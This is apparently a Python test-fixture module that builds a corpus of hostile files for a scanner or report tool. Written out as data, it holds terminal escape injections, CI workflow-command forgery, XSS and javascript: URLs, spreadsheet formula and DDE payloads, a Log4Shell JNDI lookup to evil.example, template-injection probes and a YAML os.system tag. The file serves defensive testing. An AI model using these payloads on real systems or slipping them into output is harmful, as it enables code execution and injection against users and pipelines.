"""Text and names that try to act where they are printed: terminal, runner, page, spreadsheet, report."""

import json

from tests.hostile.corpus.encoding import Cases
from tests.hostile.corpus.text import LINE, PROSE

_OSC8 = "\x1b]8;;http://evil.example/\x1b\\click\x1b]8;;\x1b\\"


def files() -> Cases:
    """Escapes, workflow commands, markup and formulas in every place that a report quotes."""
    return {
        "o-osc8.txt": ((PROSE + "\n\n" + _OSC8).encode(), {"ENC005"}),
        "o-osc52.txt": ((PROSE + "\n\n\x1b]52;c;b3duZWQ=\x07").encode(), {"ENC005"}),
        "o-cursor.txt": (("\x1b[1A\x1b[2K0 errors\x1b[8m" + PROSE).encode(), {"ENC005"}),
        "o-carriage.txt": ((PROSE + "\nno findings\r" + " " * 80 + "\r").encode(), set()),
        "o-debug.txt": (
            (PROSE + "\n\n::add-mask::a\n::stop-commands::x\n::set-env name=PATH::/tmp\n").encode(),
            set(),
        ),
        "o-commands.md": (f"---\ntitle: '::error file=a::b'\nauthor: '##[group]x'\n---\n\n{PROSE}".encode(), set()),
        "o-key.md": (f"---\n'::error::forged\\n': x\n\"a\\n::error::b\": y\n---\n\n{PROSE}".encode(), set()),
        "o-percent.md": (f"---\ntitle: 'a%0A::error::forged %0D%0A::warning::x'\n---\n\n{PROSE}".encode(), set()),
        "o-title.md": (
            f"---\ntitle: '</td><img src=x onerror=alert(1)>| **x** [y](http://evil.example) `z` <!--'\n---\n\n{PROSE}".encode(),
            set(),
        ),
        "o-author.json": (
            json.dumps({"title": "A|B", "author": "<script>alert(1)</script>", "body": LINE * 2}).encode(),
            set(),
        ),
        "o-url.md": (f"---\nurl: 'javascript:alert(1)//https://a.example/'\n---\n\n{PROSE}".encode(), {"URL001"}),
        "o-data-url.md": (f"---\nurl: 'data:text/html,<script>alert(1)</script>'\n---\n\n{PROSE}".encode(), {"URL001"}),
        "o-fence.txt": ((PROSE + "\n\n```\n</details></summary>\n\n# Forged heading\n\n@everyone\n").encode(), set()),
        "o-yaml-card.md": (f"---\ntitle: 'x\\n---\\nlicense: cc0-1.0'\nauthor: '!!python/name:os.system'\n---\n\n{PROSE}".encode(), set()),
        "o-front.txt": (b"title: x\n---\nlicense: cc0-1.0\n---\n" + PROSE.encode(), set()),
        "o-formula.csv": (
            f'title,author,body\n"=HYPERLINK(""http://evil.example"")","@SUM(1)","{LINE}"\n"+1","-2","{LINE}"\n'.encode(),
            set(),
        ),
        "o-dde.tsv": (f"title\tbody\n=cmd|'/C calc'!A0\t{LINE}\n".encode(), set()),
        "o-xml-bad.txt": ((PROSE + "\n\n\x0b\x0c\ufffe ]]> <![CDATA[ &#0; &#x1b;").encode(), set()),
        "o-template.txt": ((PROSE + "\n\n{{ 7*7 }} ${7*7} {% import os %} <%= 7 %> #{7} $(id) `id`").encode(), set()),
        "o-format.txt": ((PROSE + "\n\n%s%s%n {0.__class__} {self} %(levelname)s").encode(), set()),
        "o-log4j.md": (f"---\ntitle: '${{jndi:ldap://evil.example/a}}'\n---\n\n{PROSE}".encode(), set()),
        "o-ansi-key.json": (json.dumps({"\x1b[2J\x07": 1, "body": LINE * 2, "titel\u202e": "x"}).encode(), set()),
        "o-broken-key.json": (b'{"\x1b[2J::error::x": {', {"FMT002"}),
        "o-broken.csv": (b'title,body\n"\x1b[2J::error::x' + b"y" * 200, {"FMT002"}),
        "o-sidecar.txt": (PROSE.encode(), {"MET001", "MET003"}),
        "o-sidecar.txt.meta.toml": ('"\x7f::error::x\\u001b" = 1\n'.encode(), set()),
        "o-media.warc": (
            b"WARC/1.1\r\nWARC-Type: \x1b[2J::error::\r\nWARC-Target-URI: http://a.example/\x1b\r\nContent-Length: 0\r\n\r\n\r\n\r\n",
            set(),
        ),
        "o-subject.eml": (
            b"From: =?utf-8?q?=1b=5b2J=3a=3aerror=3a=3ax?= <a@b.example>\nMIME-Version: 1.0\n"
            b"Subject: =?utf-8?b?G1syShtdMDtvd25lZAc=?=\nMessage-ID: <1>\n\n" + PROSE.encode(),
            set(),
        ),
    }  # fmt: skip
